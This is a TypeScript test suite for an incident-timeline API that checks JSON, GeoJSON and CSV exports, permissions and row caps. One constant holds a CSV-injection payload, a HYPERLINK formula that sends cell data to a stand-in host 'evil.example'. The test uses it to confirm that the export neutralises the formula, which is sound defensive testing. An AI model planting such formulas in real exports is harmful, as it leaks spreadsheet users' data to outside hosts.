// GET /v1/incidents/:id/timeline through the real server, for an incident taken
// report → offer → accept → en route → on scene → resolved by a real hero client whose
// pings leave breadcrumbs: the JSON (events replayed through the machine, offers,
// members, intervals), the GeoJSON (lon-first), the CSV (parses back, formulas
// neutralised), and who may read it.
import * as assert from 'uvu/assert';
import type { TimelineView } from '../shared/types.ts';
import { http } from './helpers/clients.ts';
import { uid, type TestServer } from './helpers/server.ts';
import { holdWindows } from '../server/store/timeline.store.ts';
import { serverSuite } from './helpers/server-suite.ts';
import { crumbs, north, parseCsv, pingTo, untilCrumb, untilStatus } from './helpers/timeline-world.ts';
import { closeAll, dispatcherToken, heroOnline, matchable, report, type OnlineHero } from './helpers/world.ts';

// Every ping of a hero holding work is kept (the sampling rule has its own suite).
const test = serverSuite<{ server: TestServer; story: Story }>('timeline', { BREADCRUMB_EVERY_MS: 0, BREADCRUMB_FLUSH_MS: 50 });

// Latitude and longitude far apart, so a swapped pair cannot pass.
const SCENE = { lat: 40.7128, lng: -74.006 };
const OUTSIDE = { lat: 41.5, lng: -73.5 };
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"help"), then a "quote"\r\nand a second line';

interface Story { id: string; hero: OnlineHero; civ: string; disp: string }

/** Report → offer → accept → en route → on scene → resolved, with pings along the way. */
async function story(server: TestServer): Promise<Story> {
  const hero = await heroOnline(server, SCENE, 0.8);
  await matchable(server, [hero]);
  const civ = await server.token('civilian', uid('civ-'));
  const disp = await dispatcherToken(server);
  const { status, incident } = await report(server, civ, { kind: 'fire', severity: 'medium', location: SCENE, description: HOSTILE });
  assert.is(status, 201);
  const offer = await hero.client.next('offer', (o) => o.incident.id === incident.id);
  await untilStatus(server, hero.id, 'offered');
  const offered = north(SCENE, 800);
  await pingTo(server, hero, offered);
  await untilCrumb(server, hero.id, offered);
  assert.equal(await hero.client.ask('offer:accept', { offerId: offer.offerId }), { ok: true, incidentId: incident.id });
  await untilStatus(server, hero.id, 'assigned');
  assert.equal(await hero.client.ask('incident:progress', { incidentId: incident.id, state: 'en_route' }), { ok: true, state: 'en_route' });
  for (const m of [600, 300, 50]) await pingTo(server, hero, north(SCENE, m));
  await untilCrumb(server, hero.id, north(SCENE, 50));
  for (const state of ['on_scene', 'resolved'] as const) {
    assert.equal(await hero.client.ask('incident:progress', { incidentId: incident.id, state }), { ok: true, state });
  }
  // Free again: this ping is not the incident's (and not kept at all).
  await untilStatus(server, hero.id, 'available');
  await pingTo(server, hero, north(SCENE, 5));
  // Points of the same hero outside their window (another incident's, say) are not this incident's.
  await server.app.sql`insert into breadcrumbs (hero_id, at, lat, lng) values
    (${hero.id}, now() - interval '1 hour', ${OUTSIDE.lat}, ${OUTSIDE.lng}), (${hero.id}, now(), ${OUTSIDE.lat}, ${OUTSIDE.lng})`;
  return { id: incident.id, hero, civ, disp };
}

test.before(async (ctx) => { ctx.story = await story(ctx.server); });
test.after(({ story: s }) => { if (s) closeAll(s.hero); });

test('JSON: the events replay through the machine, offers and members are complete, intervals agree with the events', async ({ server, story: s }) => {
  const res = await http(server, 'GET', `/v1/incidents/${s.id}/timeline`, { token: s.disp });
  assert.is(res.status, 200, JSON.stringify(res.body));
  assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
  const t = res.body as TimelineView;
  assert.is(t.incident.id, s.id);
  assert.is(t.incident.state, 'resolved');
  assert.is(t.truncated, false);
  assert.equal(t.events.map((e) => e.type), ['REPORTED', 'ROUND', 'ASSIGN', 'EN_ROUTE', 'ARRIVE', 'RESOLVE']);
  assert.equal(t.events.map((e) => e.seq), [1, 2, 3, 4, 5, 6]);
  // Each event's state is the machine's after replaying the trail up to it, and it is the `to` the server recorded.
  for (const e of t.events) assert.is(e.state, e.to, `seq ${e.seq} ${e.type}`);
  assert.equal(t.events.map((e) => e.members), [[], [], ...Array(4).fill([{ slot: 0, heroId: s.hero.id }])]);

  assert.is(t.offers.length, 1);
  const [o] = t.offers;
  assert.is(o!.heroId, s.hero.id);
  assert.is(o!.state, 'accepted');
  assert.is(o!.answerMs, o!.decidedAt! - o!.offeredAt);
  assert.ok(o!.answerMs! >= 0);

  assert.equal(t.members.map((m) => [m.heroId, m.name]), [[s.hero.id, s.hero.name]]);
  const trail = t.members[0]!.breadcrumbs;
  const resolvedAt = t.events.at(-1)!.at;
  const stored = await crumbs(server, s.hero.id);
  assert.is(stored.filter((c) => c.lat === OUTSIDE.lat).length, 2);
  assert.equal(trail, stored.filter((c) => c.at >= o!.offeredAt && c.at <= resolvedAt), 'every breadcrumb from the offer to the end of the assignment, oldest first');
  assert.equal(trail.map((p) => p.lat), [north(SCENE, 800), north(SCENE, 600), north(SCENE, 300), north(SCENE, 50)].map((p) => p.lat));

  const at = (type: string) => t.events.find((e) => e.type === type)!.at;
  const i = t.intervals;
  assert.equal(
    [i.reportedAt, i.firstOfferAt, i.acceptedAt, i.enRouteAt, i.onSceneAt, i.resolvedAt],
    [at('REPORTED'), o!.offeredAt, at('ASSIGN'), at('EN_ROUTE'), at('ARRIVE'), at('RESOLVE')],
  );
  assert.is(i.reportToFirstOfferMs, i.firstOfferAt! - i.reportedAt!);
  assert.is(i.firstOfferToAcceptMs, i.acceptedAt! - i.firstOfferAt!);
  assert.is(i.acceptToEnRouteMs, i.enRouteAt! - i.acceptedAt!);
  assert.is(i.enRouteToOnSceneMs, i.onSceneAt! - i.enRouteAt!);
  assert.is(i.onSceneToResolvedMs, i.resolvedAt! - i.onSceneAt!);
  assert.is(i.reportToResolvedMs, i.resolvedAt! - i.reportedAt!);
  const steps = [i.reportToFirstOfferMs, i.firstOfferToAcceptMs, i.acceptToEnRouteMs, i.enRouteToOnSceneMs, i.onSceneToResolvedMs];
  assert.ok(steps.every((d) => d! >= 0), `in order: ${steps.join(', ')}`);
  assert.is(steps.reduce((a, b) => a! + b!, 0), i.reportToResolvedMs);
});

test('GeoJSON: RFC 7946, lon-first: the incident and events as Points, the hero\'s breadcrumbs as a LineString', async ({ server, story: s }) => {
  const res = await http(server, 'GET', `/v1/incidents/${s.id}/timeline?format=geojson`, { token: s.disp });
  assert.is(res.status, 200);
  assert.match(res.headers.get('content-type') ?? '', /^application\/geo\+json(;|$)/);
  const fc = res.body;
  assert.is(fc.type, 'FeatureCollection');
  const of = (record: string) => fc.features.filter((f: any) => f.type === 'Feature' && f.properties.record === record);

  const [incident] = of('incident');
  assert.equal(incident.geometry, { type: 'Point', coordinates: [SCENE.lng, SCENE.lat] });
  assert.is(incident.geometry.coordinates[0], -74.006, 'coordinates[0] is the longitude');

  const [line] = of('breadcrumbs');
  assert.is(line.geometry.type, 'LineString');
  assert.is(line.properties.heroId, s.hero.id);
  assert.is(line.properties.name, s.hero.name);
  const trail = [800, 600, 300, 50].map((m) => north(SCENE, m));
  assert.equal(line.geometry.coordinates, trail.map((p) => [p.lng, p.lat]));
  for (const [lng, lat] of line.geometry.coordinates) {
    assert.ok(Math.abs(lng - -74.006) < 1e-9 && Math.abs(lat - 40.72) < 0.01, `[${lng}, ${lat}] is [lng, lat]`);
  }
  assert.is(line.properties.times.length, 4);
  assert.ok(line.properties.times.every((t: number, k: number, all: number[]) => k === 0 || t >= all[k - 1]!));

  const events = of('event');
  assert.equal(events.map((f: any) => f.properties.type), ['REPORTED', 'ROUND', 'ASSIGN', 'EN_ROUTE', 'ARRIVE', 'RESOLVE']);
  for (const f of events) {
    assert.is(f.geometry.type, 'Point');
    assert.is(f.properties.state, f.properties.to);
    assert.ok(!Number.isNaN(Date.parse(f.properties.at)) && f.properties.at.endsWith('Z'), 'at is ISO 8601');
    assert.ok(Math.abs(f.geometry.coordinates[0] - -74.006) < 1e-9, 'lon-first');
  }
  // Events without a hero sit at the incident.
  assert.equal(events[0].geometry.coordinates, [SCENE.lng, SCENE.lat]);
});

test('CSV: RFC 4180 that parses back, one row per event, offer and breadcrumb, a formula neutralised', async ({ server, story: s }) => {
  const res = await http(server, 'GET', `/v1/incidents/${s.id}/timeline?format=csv`, { token: s.disp });
  assert.is(res.status, 200);
  assert.is(res.headers.get('content-type'), 'text/csv; charset=utf-8');
  const text = typeof res.body === 'string' ? res.body : JSON.stringify(res.body);
  const [header, ...rows] = parseCsv(text);
  assert.is(header![0], 'record');
  const col = (name: string) => header!.indexOf(name);
  assert.ok(rows.every((r) => r.length === header!.length), 'every row has every column');
  const records = rows.map((r) => r[col('record')]);
  assert.equal(records, ['incident', ...Array(6).fill('event'), 'offer', ...Array(4).fill('breadcrumb')]);

  const incident = rows[0]!;
  assert.is(incident[col('description')], `'${HOSTILE}`, 'starts with a quote, so no spreadsheet runs it; the rest intact');
  assert.is(Number(incident[col('lng')]), SCENE.lng, 'numbers stay numbers (a negative longitude is not neutralised)');
  const events = rows.filter((r) => r[col('record')] === 'event');
  assert.equal(events.map((r) => r[col('type')]), ['REPORTED', 'ROUND', 'ASSIGN', 'EN_ROUTE', 'ARRIVE', 'RESOLVE']);
  for (const r of events) assert.is(r[col('state')], r[col('to')]);
  const offer = rows.find((r) => r[col('record')] === 'offer')!;
  assert.is(offer[col('hero_id')], s.hero.id);
  assert.is(offer[col('offer_state')], 'accepted');
  const lats = rows.filter((r) => r[col('record')] === 'breadcrumb').map((r) => Number(r[col('lat')]));
  assert.equal(lats, [800, 600, 300, 50].map((m) => north(SCENE, m).lat));
  // The same CSV through the Accept header.
  const accepted = await http(server, 'GET', `/v1/incidents/${s.id}/timeline`, { token: s.disp, headers: { accept: 'text/csv' } });
  assert.is(accepted.headers.get('content-type'), 'text/csv; charset=utf-8');
});

test('a member\'s windows: each offer until decided, an accept running on into its assignment, gaps left out', () => {
  const t = (s: number) => new Date(Date.UTC(2026, 0, 1, 12, 0, s));
  const now = t(60);
  const row = (hero: string, start: number, end: number | null, holding = false) =>
    ({ hero_id: hero, name: hero.toUpperCase(), start_at: t(start), end_at: end === null ? null : t(end), holding });
  const heroes = holdWindows([
    row('b', 2, 3), row('b', 3, 9), // offer accepted at 3, then its assignment until 9
    row('a', 0, 1), row('a', 5, null, true), // an offer expired at 1; another from 5, pending
    row('c', 10, 20), row('c', 15, null, true), // overlapping: one window until now
  ], now);
  assert.equal(heroes.map((h) => [h.heroId, h.name, h.windows.map((w) => [w.from.getTime(), w.to.getTime()])]), [
    ['a', 'A', [[t(0).getTime(), t(1).getTime()], [t(5).getTime(), now.getTime()]]],
    ['b', 'B', [[t(2).getTime(), t(9).getTime()]]],
    ['c', 'C', [[t(10).getTime(), now.getTime()]]],
  ]);
});

test('dispatchers only: 401 without a token, 403 for a hero and a civilian (its reporter too), 404 unknown, 400 bad format', async ({ server, story: s }) => {
  const path = `/v1/incidents/${s.id}/timeline`;
  assert.is((await http(server, 'GET', path)).status, 401);
  const hero = await http(server, 'GET', path, { token: s.hero.token });
  assert.is(hero.status, 403);
  assert.is(hero.body.code, 'forbidden');
  assert.is((await http(server, 'GET', path, { token: s.civ })).status, 403);
  const unknown = await http(server, 'GET', `/v1/incidents/${uid('i-')}/timeline`, { token: s.disp });
  assert.is(unknown.status, 404);
  assert.is(unknown.body.code, 'not_found');
  const bad = await http(server, 'GET', `${path}?format=xml`, { token: s.disp });
  assert.is(bad.status, 400);
  assert.is(bad.body.code, 'invalid');
});

test.run();

// ---- caps: one request never reads unbounded rows ------------------------------------

const capped = serverSuite<{ server: TestServer; story: Story }>('timeline caps', {
  BREADCRUMB_EVERY_MS: 0, BREADCRUMB_FLUSH_MS: 50, TIMELINE_MAX_EVENTS: 3, TIMELINE_MAX_BREADCRUMBS: 2,
});
capped.before(async (ctx) => { ctx.story = await story(ctx.server); });
capped.after(({ story: s }) => { if (s) closeAll(s.hero); });

capped('past TIMELINE_MAX_EVENTS and _BREADCRUMBS the answer is cut, oldest kept, and says `truncated`', async ({ server, story: s }) => {
  const res = await http(server, 'GET', `/v1/incidents/${s.id}/timeline`, { token: s.disp });
  assert.is(res.status, 200);
  const t = res.body as TimelineView;
  assert.is(t.truncated, true);
  assert.equal(t.events.map((e) => [e.seq, e.state]), [[1, 'reported'], [2, 'dispatching'], [3, 'assigned']]);
  assert.equal(t.members[0]!.breadcrumbs.map((p) => p.lat), [north(SCENE, 800), north(SCENE, 600)].map((p) => p.lat));
  const csv = await http(server, 'GET', `/v1/incidents/${s.id}/timeline?format=csv`, { token: s.disp });
  assert.is(parseCsv(csv.body).length, 1 + 1 + 3 + 1 + 2, 'header, incident, 3 events, the offer, 2 breadcrumbs');
});

capped.run();
